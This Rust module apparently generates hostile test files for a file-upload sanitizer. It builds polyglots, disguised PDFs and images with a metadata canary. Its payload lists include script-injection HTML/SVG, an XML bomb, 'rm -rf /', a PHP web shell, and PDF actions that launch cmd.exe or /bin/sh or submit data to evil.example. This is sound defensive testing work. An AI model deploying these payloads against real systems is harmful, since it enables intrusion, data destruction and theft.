//! Hostile files, made here: what they are, what they claim to be, and what must not come of them.

use super::bombs::bombs;
use super::pictures::{exif, heic, part, png, with_segment, zlib};
use super::{HEIC, JPEG, Named, PDF, PNG};

/// What must never leave in a picture to look at.
pub(super) const CANARY: &str = "CANARY-10.3865N-105.4352E";

/// A hostile file.
#[derive(Debug, Clone)]
pub(super) struct Hostile {
    pub(super) what: String,
    pub(super) named: Named,
    pub(super) bytes: Vec<u8>,
}

const CLAIMS: [Named; 4] = [PDF, JPEG, PNG, HEIC];

/// What browsers, shells and office programs run.
const RUNS: [(&str, &[u8]); 19] = [
    ("html", b"<!DOCTYPE html><script>alert(1)</script>"),
    ("html with spaces", b"   \r\n<html><body onload=alert(1)>"),
    ("html with a mark", b"\xef\xbb\xbf<html><script>1</script>"),
    ("svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
    ("svg with a head", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>"),
    ("xml bomb", b"<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>"),
    ("javascript", b"alert(document.cookie)//"),
    ("shell", b"#!/bin/sh\nrm -rf /\n"),
    ("php", b"<?php system($_GET['c']); ?>"),
    ("windows program", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"),
    ("linux program", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
    ("zip", b"PK\x03\x04\x14\0\0\0\x08\0"),
    ("empty zip", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
    ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03"),
    ("rar", b"Rar!\x1a\x07\x01\0"),
    ("7z", b"7z\xbc\xaf\x27\x1c"),
    ("gif", b"GIF89a\x01\0\x01\0\0\0\0;"),
    ("word of old", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ("mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom"),
];

/// Ways in which a PDF runs something (each as an object), plain and disguised.
const ACTS: [&str; 24] = [
    "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
    "<< /S /Java#53cript /JS (x) >>",
    "<< /S /#4a#61vaScript /#4aS (x) >>",
    "<< /OpenAction << /S /JavaScript /JS (x) >> >>",
    "<< /AA << /O << /S /JavaScript /JS 9 0 R >> >> >>",
    "<< /S /Launch /F (cmd.exe) >>",
    "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "<< /S /#4caunch /F (/bin/sh) >>",
    "<< /Type /EmbeddedFile /Length 0 >>",
    "<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>",
    "<< /Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> >>",
    "<< /Names << /JavaScript << /Names [(x) 9 0 R] >> >> >>",
    "<< /S /SubmitForm /F (http://evil.example) >>",
    "<< /S /ImportData /F (x.fdf) >>",
    "<< /Subtype /RichMedia /RichMediaContent 9 0 R >>",
    "<< /S /GoToE /T << /R /C >> >>",
    "<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>",
    "<< /S /Rendition /JS (x) >>",
    "<< /S /Movie >>",
    "<< /S /Sound >>",
    "<< /AcroForm << /XFA 9 0 R >> >>",
    "<< /Subtype /FileAttachment /FS 9 0 R >>",
    "[ [ [ << /S /JavaScript /JS (deep) >> ] ] ]",
    "<< /A << /B << /C << /S /Launch >> >> >> >>",
];

/// A whole PDF with this object in it, reachable by its table.
pub(super) fn pdf_with(object: &str) -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [] /Count 0 >>".to_owned(),
        object.to_owned(),
    ];
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(&objects) {
        places.push(bytes.len());
        bytes.extend(format!("{number} 0 obj\n{object}\nendobj\n").bytes());
    }
    let table = bytes.len();
    bytes.extend(b"xref\n0 4\n0000000000 65535 f \n");
    for place in places {
        bytes.extend(format!("{place:010} 00000 n \n").bytes());
    }
    let trailer = format!("trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n");
    bytes.extend(trailer.bytes());
    bytes
}

/// A PDF whose stream unpacks to very much.
pub(super) fn packed(dictionary: &str, size: usize) -> Vec<u8> {
    let stream = zlib(&vec![b' '; size]);
    let head = format!(
        "<< {dictionary} /Filter /FlateDecode /Length {} >>\nstream\n",
        stream.len()
    );
    let mut bytes = b"%PDF-1.7\n1 0 obj\n".to_vec();
    bytes.extend(head.bytes());
    bytes.extend(stream);
    bytes.extend(b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n");
    bytes
}

fn heads() -> Vec<(&'static str, Named, Vec<u8>)> {
    vec![
        ("pdf", PDF, crate::papers::pdf("x")),
        ("whole pdf", PDF, pdf_with("<< /A 1 >>")),
        ("png", PNG, png(3, 2, &[])),
        ("heic", HEIC, heic(3, 2, CANARY)),
    ]
}

fn polyglots(jpeg: &[u8]) -> Vec<Hostile> {
    let mut all = Vec::new();
    let mut heads = heads();
    heads.push(("jpeg", JPEG, jpeg.to_vec()));
    for (head, named, bytes) in &heads {
        for (run, code) in RUNS {
            let behind = [&bytes[..], code].concat();
            let before = [code, &bytes[..]].concat();
            for (place, bytes) in [("behind", behind), ("before", before)] {
                let what = format!("{run} {place} a {head}");
                all.push(Hostile {
                    what,
                    named: *named,
                    bytes,
                });
            }
        }
        for part in 1..8 {
            let bytes = bytes[..bytes.len() * part / 8].to_vec();
            let what = format!("{part}/8 of a {head}");
            all.push(Hostile {
                what,
                named: *named,
                bytes,
            });
        }
    }
    all
}

fn hidden(jpeg: &[u8]) -> Vec<Hostile> {
    let text = [&b"Comment\0"[..], CANARY.as_bytes()].concat();
    let mut all = Vec::new();
    let mut add = |what: &str, named: Named, bytes: Vec<u8>| {
        all.push(Hostile {
            what: what.to_owned(),
            named,
            bytes,
        });
    };
    for orientation in 0..=9 {
        add(
            "a photograph with a place",
            JPEG,
            with_segment(jpeg, 0xe1, &exif(orientation, CANARY)),
        );
    }
    for marker in [0xe2, 0xe3, 0xec, 0xed, 0xee, 0xfe] {
        add(
            "a segment",
            JPEG,
            with_segment(jpeg, marker, CANARY.as_bytes()),
        );
    }
    add("behind the end", JPEG, [jpeg, CANARY.as_bytes()].concat());
    add("text", PNG, png(3, 2, &[part(*b"tEXt", &text)]));
    add(
        "exif",
        PNG,
        png(3, 2, &[part(*b"eXIf", &exif(3, CANARY)[6..])]),
    );
    add(
        "an unknown part",
        PNG,
        png(3, 2, &[part(*b"prIv", CANARY.as_bytes())]),
    );
    add(
        "behind the end",
        PNG,
        [&png(3, 2, &[])[..], CANARY.as_bytes()].concat(),
    );
    all
}

/// All of them; the JPEG is one that can be decoded.
pub(super) fn all(jpeg: &[u8]) -> Vec<Hostile> {
    let mut all = Vec::new();
    for named in CLAIMS {
        for (run, code) in RUNS {
            let what = format!("{run} as {}", named.kind);
            all.push(Hostile {
                what,
                named,
                bytes: code.to_vec(),
            });
        }
    }
    for (head, _, bytes) in heads() {
        for named in CLAIMS {
            let what = format!("{head} as {}", named.kind);
            all.push(Hostile {
                what,
                named,
                bytes: bytes.clone(),
            });
        }
    }
    for act in ACTS {
        all.push(Hostile {
            what: act.to_owned(),
            named: PDF,
            bytes: pdf_with(act),
        });
        let loose = crate::papers::pdf(&format!("1 0 obj {act} endobj"));
        all.push(Hostile {
            what: format!("loose {act}"),
            named: PDF,
            bytes: loose,
        });
    }
    all.extend(polyglots(jpeg));
    all.extend(hidden(jpeg));
    all.extend(bombs(jpeg));
    all
}

/// PDFs that run something.
pub(super) fn acts() -> impl Iterator<Item = Vec<u8>> {
    ACTS.iter().map(|act| pdf_with(act))
}
